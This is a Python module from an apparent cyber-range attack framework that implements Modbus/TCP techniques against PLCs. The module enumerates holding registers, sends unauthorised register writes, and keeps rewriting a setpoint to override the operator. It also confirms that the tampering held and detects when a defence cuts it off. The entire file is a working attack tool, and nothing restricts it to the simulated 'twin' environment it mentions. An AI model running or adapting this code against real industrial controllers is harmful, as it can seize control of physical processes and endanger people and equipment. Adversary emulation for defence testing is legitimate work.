"""ICS: Modbus/TCP against a PLC. T0861 point & tag identification (read holding registers),
T0855 unauthorised command message (write single/multiple holding registers) and T0831
manipulation of control (the same writes, repeated to hold a setpoint against the operator).

One kernel TCP connection per PLC for the whole step (the MBAP transaction id counts the
requests), requests written as single segments (``c2.send_segments``); the client closes with an
abortive close (one RST), so ``packets = tcpi_segs_out + 1`` exactly, like the other TCP
techniques. Writes are read back before and after: ``written`` holds only what the PLC really
holds afterwards.
"""
from __future__ import annotations

import struct
import time

from cyberrange.attack.spec import Param, technique
from cyberrange.attack.techniques.c2 import parse_service, send_segments
from cyberrange.attack.techniques.common import (
    Blocked,
    Result,
    conclude,
    defence_reason,
    one_line,
)
from cyberrange.attack.techniques.tcp import Conn

CONNECT_TIMEOUT = 2.5            # seconds to wait for the PLC to accept a connection
IO_TIMEOUT = 3.0                 # seconds to wait for each answer

_CONN = {
    "port": Param(int, 502, "Modbus/TCP port for targets given without :port"),
    "unit": Param(int, 1, "Modbus unit identifier"),
    "address": Param(int, 0, "first holding register"),
}
_WRITE = {
    **_CONN,
    "value": Param(int, 0, "value for a single-register write (when `values` is empty)"),
    "values": Param(list, [], "values written from `address` on (function 16 if more than one)"),
}


class ModbusError(Exception):
    pass


# Modbus exception codes a PLC answers with (the twin's PLC: 1 for an unknown function or a
# writer not on its allow-list, 2 for an address out of range)
_EXCEPTIONS = {1: " (illegal function)", 2: " (illegal data address)", 3: " (illegal data value)",
               4: " (server device failure)", 6: " (server device busy)"}


class ModbusClient:
    def __init__(self, ip: str, port: int, unit: int, connect_timeout: float = CONNECT_TIMEOUT,
                 io_timeout: float = IO_TIMEOUT):
        self.conn = Conn(ip, port, connect_timeout, io_timeout)
        self.unit, self.tid = unit, 0
        self.requests = 0

    @property
    def status(self) -> str:
        return self.conn.status

    def _recv_exact(self, n: int) -> bytes:
        c = self.conn
        while len(c.buf) < n:
            chunk = c.sock.recv(4096)
            if not chunk:
                raise ModbusError("the PLC closed the connection")
            c.buf += chunk
        out, c.buf = c.buf[:n], c.buf[n:]
        return out

    def call(self, pdu: bytes) -> bytes:
        self.tid = (self.tid + 1) & 0xFFFF
        send_segments(self.conn, struct.pack("!HHHB", self.tid, 0, len(pdu) + 1, self.unit) + pdu)
        self.requests += 1
        tid, proto, length, _unit = struct.unpack("!HHHB", self._recv_exact(7))
        reply = self._recv_exact(length - 1)
        if tid != self.tid or proto != 0:
            raise ModbusError(f"unexpected MBAP header (tid {tid}, protocol {proto})")
        if reply[0] & 0x80:
            code = reply[1] if len(reply) > 1 else 0
            raise ModbusError(f"exception {code}{_EXCEPTIONS.get(code, '')} for function "
                              f"{reply[0] & 0x7F}")
        return reply

    def read_holding(self, addr: int, count: int) -> list[int]:
        out = []
        while count > 0:
            n = min(count, 125)
            r = self.call(struct.pack("!BHH", 3, addr, n))
            out.extend(struct.unpack(f"!{r[1] // 2}H", r[2:2 + r[1]]))
            addr, count = addr + n, count - n
        return out

    def write(self, addr: int, values: list[int]) -> None:
        if len(values) == 1:
            self.call(struct.pack("!BHH", 6, addr, values[0] & 0xFFFF))
        else:
            for i in range(0, len(values), 123):
                part = values[i:i + 123]
                self.call(struct.pack(f"!BHHB{len(part)}H", 16, addr + i, len(part), 2 * len(part),
                                      *[v & 0xFFFF for v in part]))

    def close(self) -> dict:
        return self.conn.close()


def _plcs(targets: list[str], params: dict, res: Result, reached: list[bool]):
    """``(ip:port, connected client)`` for each PLC of the targets; ``reached`` gets True or
    False per PLC (a connection that failed is logged and counted in the flows)."""
    for ip, port in dict.fromkeys(parse_service(t, params["port"]) for t in targets):
        cl = ModbusClient(ip, port, int(params["unit"]))
        reached.append(cl.conn.established)
        if cl.conn.established:
            yield f"{ip}:{port}", cl
        else:
            res.log.append(f"{ip}:{port}: {cl.status}")
            res.flows.append(cl.close())


@technique("T0861", "Point & Tag Identification (Modbus read holding registers)", "collection",
           {**_CONN, "count": Param(int, 10, "holding registers to read")},
           produces=("registers", "plcs"), target_kind="service")
def modbus_read(targets: list[str], params: dict) -> Result:
    res = Result(start=time.time())
    addr, count = int(params["address"]), int(params["count"])
    registers, plcs, reached, problems = {}, [], [], []
    try:
        for key, cl in _plcs(targets, params, res, reached):
            try:
                vals = cl.read_holding(addr, count)
                registers[key] = {str(addr + i): v for i, v in enumerate(vals)}
                plcs.append(key)
            except (ModbusError, OSError, struct.error) as exc:
                res.log.append(f"{key}: {exc}")
                problems.append(f"{key}: {exc}")
                _cut_if_blocked(res, key, exc)
            finally:
                res.flows.append(cl.close())
    except Blocked as exc:          # the actor's own node stopped sending
        res.cut(exc.reason)
    res.facts = {"registers": registers, "plcs": plcs}
    return _with_reason(conclude(res, plcs, _unreached(reached)), problems)


def _unreached(reached: list[bool]) -> str | None:
    if reached and not any(reached):
        return "no PLC accepted the connection (a firewall drops or rejects it)"
    return None


def _cut_if_blocked(res: Result, key: str, exc: Exception) -> None:
    """A connected PLC that stops answering (a timeout, a reset, a send the actor's node
    refuses) was cut off by the defence; a Modbus exception or a malformed reply was not."""
    if isinstance(exc, OSError):
        res.cut(defence_reason(exc, f"Modbus to {key}")
                or f"{key} stopped answering mid-connection ({exc.__class__.__name__}: "
                   f"{exc}): a block or an isolation mid-step")


def _values(params: dict) -> list[int]:
    vals = params["values"]
    if vals in (None, [], ""):
        vals = [params["value"]]
    if not isinstance(vals, list):
        vals = [vals]
    return [int(v) for v in vals]


@technique("T0855", "Unauthorized Command Message (Modbus register write)",
           "impair-process-control",
           {**_WRITE, "repeat": Param(int, 1, "times the write is sent"),
            "interval": Param((int, float), 1.0, "seconds between repeated writes")},
           produces=("registers", "written", "plcs"), target_kind="service")
@technique("T0831", "Manipulation of Control (hold a setpoint by repeated Modbus writes)", "impact",
           {**_WRITE, "repeat": Param(int, 5, "times the write is sent"),
            "interval": Param((int, float), 1.0, "seconds between repeated writes")},
           produces=("registers", "written", "plcs"), target_kind="service")
def modbus_write(targets: list[str], params: dict) -> Result:
    res = Result(start=time.time())
    addr, values = int(params["address"]), _values(params)
    repeat = max(1, int(params["repeat"]))
    interval = float(params["interval"])
    before, after, written, plcs, reached, problems = {}, {}, {}, [], [], []
    try:
        for key, cl in _plcs(targets, params, res, reached):
            try:
                old = cl.read_holding(addr, len(values))
                before[key] = {str(addr + i): v for i, v in enumerate(old)}
                for n in range(repeat):
                    if n:
                        time.sleep(interval)
                    cl.write(addr, values)
                new = cl.read_holding(addr, len(values))
                after[key] = {str(addr + i): v for i, v in enumerate(new)}
                held = {str(addr + i): v for i, v in enumerate(new) if v == values[i] & 0xFFFF}
                if held:
                    written[key] = held
                    plcs.append(key)
                else:
                    problems.append(f"{key}: the write was answered but the registers read "
                                    f"{after[key]} afterwards (another writer restored them?)")
            except (ModbusError, OSError, struct.error) as exc:
                res.log.append(f"{key}: {exc}")
                problems.append(f"{key}: {exc}")
                _cut_if_blocked(res, key, exc)
            finally:
                res.flows.append(cl.close())
    except Blocked as exc:          # the actor's own node stopped sending
        res.cut(exc.reason)
    res.log.append(f"wrote {values} at {addr} x{repeat}: before {before}, after {after}")
    res.facts = {"registers": after, "before": before, "written": written, "plcs": plcs}
    return _with_reason(conclude(res, written, _unreached(reached)), problems)


def _with_reason(res: Result, problems: list[str]) -> Result:
    """A ``failed`` step says why in its ``error`` (one line, as the other families do): the
    PLCs' Modbus exceptions (a writer not on the allow-list gets exception 1), or what the
    registers read after the write; without it the reason was only in the agent's log."""
    if res.outcome == "failed" and not res.error and problems:
        res.error = one_line("; ".join(problems))
    return res
